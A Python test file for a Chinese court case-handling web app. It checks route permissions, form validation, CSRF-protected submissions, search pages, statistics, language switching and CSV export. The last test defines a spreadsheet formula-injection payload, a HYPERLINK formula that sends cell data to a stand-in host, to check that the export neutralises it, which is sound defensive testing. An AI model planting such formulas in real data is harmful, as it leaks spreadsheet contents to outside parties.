"""p26 pages without a browser: every route guarded; registration and the case page's forms
(422 with the message and nothing saved); the party's submission form; laws, judgments,
statistics and the CSV; isolation; both languages."""

from __future__ import annotations

import csv
import io
import re

from fastapi import FastAPI
from fastapi.testclient import TestClient

from tests.conftest import ApiClients, csrf_from, login
from tests.practices.case_handling.conftest import API, register
from tests.routes import api_routes

HTML = {"accept": "text/html"}


def test_every_route_needs_a_permission(app: FastAPI) -> None:
    routes = [(p, r) for p, r in api_routes(app.routes) if "case-handling" in p]
    assert len(routes) > 40
    for path, route in routes:
        names = {getattr(d.call, "__qualname__", "") for d in route.dependant.dependencies}
        assert any("require" in n for n in names), path


def test_register_form_and_its_errors(ch: ApiClients, client: TestClient) -> None:
    login(client, "ch.judge")
    form = client.get("/case-handling/cases/new")
    assert form.status_code == 200
    values = {
        "csrf_token": csrf_from(form.text),
        "number": "bad",
        "cause": "买卖合同纠纷",
        "case_type": "sales_contract",
        "claims": "支付货款38,000元",
        "amount_cny": "38000",
        "filed_on": "2026-10-01",
        "plaintiff_name": "甲公司",
        "defendant_name": "乙公司",
    }
    bad = client.post("/case-handling/cases", headers=HTML, data=values)
    assert bad.status_code == 422 and 'role="alert"' in bad.text and "number" in bad.text
    assert 'value="甲公司"' in bad.text
    values["number"] = "（2026）湘1002民初9100号"
    made = client.post("/case-handling/cases", headers=HTML, data=values, follow_redirects=False)
    assert made.status_code == 303
    page = client.get(made.headers["location"])
    assert "（2026）湘1002民初9100号" in page.text and "TR-SMALL" in page.text
    assert client.get("/case-handling/cases?track=fast").text.count("9100号") == 1
    csv = client.get("/case-handling/cases.csv?q=9100")
    assert csv.headers["content-type"].startswith("text/csv") and "甲公司" in csv.text


def test_case_page_forms(ch: ApiClients, client: TestClient) -> None:
    case = register(ch)
    lawyer = ch.as_("ch.lawyer")
    sub = lawyer.post(
        f"{API}/cases/{case['id']}/submissions",
        json={"kind": "legal_basis", "query": "举证", "argument": "被告应举证证明其抗辩。"},
    ).json()
    login(client, "ch.judge")
    url = f"/case-handling/cases/{case['id']}"
    page = client.get(url)
    assert page.status_code == 200 and 'id="search-form"' in page.text
    token = csrf_from(page.text)
    empty = client.post(f"{url}/searches", headers=HTML, data={"csrf_token": token, "kind": "nope"})
    assert empty.status_code == 422 and "kind" in empty.text
    ran = client.post(
        f"{url}/searches",
        headers=HTML,
        follow_redirects=False,
        data={"csrf_token": token, "kind": "legal_basis", "query": "海关法第六十条"},
    )
    assert ran.status_code == 303
    assert "《海关法》第六十条" in client.get(url).text
    short = client.post(
        f"{url}/submissions/{sub['id']}/answer",
        headers=HTML,
        data={"csrf_token": token, "position": "adopted", "answer": "x"},
    )
    assert short.status_code == 422
    assert (
        ch.as_("ch.judge").get(f"{API}/cases/{case['id']}/submissions").json()[0]["status"]
        == "pending"
    )
    done = client.post(
        f"{url}/submissions/{sub['id']}/answer",
        headers=HTML,
        follow_redirects=False,
        data={"csrf_token": token, "position": "not_adopted", "answer": "不予采纳，理由如下。"},
    )
    assert done.status_code == 303
    refused = client.post(f"{url}/finalize", headers=HTML, data={"csrf_token": token})
    assert refused.status_code == 422 and "searches.similar_cases" in refused.text
    states = {f"state_{m}": "done" for m in re.findall(r'name="state_([A-Z-]+)"', page.text)}
    saved = client.post(
        f"{url}/checklist",
        headers=HTML,
        follow_redirects=False,
        data={"csrf_token": token, **states},
    )
    assert saved.status_code == 303
    assert "checklist" not in {
        g["field"]
        for g in ch.as_("ch.judge").get(f"{API}/cases/{case['id']}/report").json()["gaps"]
    }
    assert client.get(f"{url}/report").status_code == 200


def test_party_submits_through_the_form(ch: ApiClients, client: TestClient) -> None:
    case = register(ch)
    login(client, "ch.ent.a")
    url = f"/case-handling/cases/{case['id']}"
    page = client.get(url)
    assert 'id="submission-form"' in page.text and 'id="search-form"' not in page.text
    token = csrf_from(page.text)
    bad = client.post(
        f"{url}/submissions",
        headers=HTML,
        data={"csrf_token": token, "kind": "similar_cases", "query": "保理", "argument": ""},
    )
    assert bad.status_code == 422
    ok = client.post(
        f"{url}/submissions",
        headers=HTML,
        follow_redirects=False,
        data={
            "csrf_token": token,
            "kind": "similar_cases",
            "query": "保理",
            "cited": "（2024）湘1002民初1201号\n《民法典》第七百六十六条",
            "argument": "请参照类案裁判尺度。",
        },
    )
    assert ok.status_code == 303
    assert "awaiting the judge" in client.get(f"{url}?lang=en").text
    login(client, "ent.a")
    assert client.get(url).status_code == 404


def test_search_pages_and_statistics(ch: ApiClients, client: TestClient) -> None:
    login(client, "ent.a")
    laws = client.get("/case-handling/laws?q=海关法第六十条")
    assert laws.status_code == 200 and "《海关法》第六十条" in laws.text
    bad = client.get("/case-handling/laws?q=税&on=2024-13-01")
    assert bad.status_code == 422
    unknown = client.get("/case-handling/laws?q=税&law=无此法")
    assert unknown.status_code == 422 and "law" in unknown.text
    judgments = client.get("/case-handling/judgments")
    assert judgments.status_code == 200 and "湘10" in judgments.text
    searched = client.get("/case-handling/judgments?q=保理")
    assert searched.status_code == 200
    assert client.get("/case-handling/statistics").status_code == 403
    login(client, "ch.chief")
    stats = client.get("/case-handling/statistics?lang=en")
    assert stats.status_code == 200 and "28.72" in stats.text
    token = csrf_from(stats.text)
    over = client.post(
        "/case-handling/surveys",
        headers=HTML,
        data={
            "csrf_token": token,
            "year": "2025",
            "label": "测评",
            "respondents": "5",
            "satisfied": "6",
        },
    )
    assert over.status_code == 422 and "satisfied" in over.text
    dash = client.get("/case-handling")
    assert dash.status_code == 200 and "approval-queue" in dash.text


def test_chinese_is_the_default_language(ch: ApiClients, client: TestClient) -> None:
    login(client, "ch.judge")
    page = client.get("/case-handling/cases/new")
    assert "登记案件" in page.text
    english = client.get("/case-handling/cases/new?lang=en")
    assert "Register a case" in english.text


def test_the_export_never_hands_a_spreadsheet_a_formula(ch: ApiClients) -> None:
    """A party name typed as a formula is exported quoted, so a spreadsheet shows it as text."""
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    parties = [{"role": "plaintiff", "name": typed}, {"role": "defendant", "name": "乙公司"}]
    case = register(ch, number="（2026）湘1002民初9200号", parties=parties)
    exported = ch.as_("ch.judge").get("/case-handling/cases.csv?q=9200").text
    [row] = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"))))
    assert row["number"] == case["number"] and row["parties"] == f"'{typed}; 乙公司"
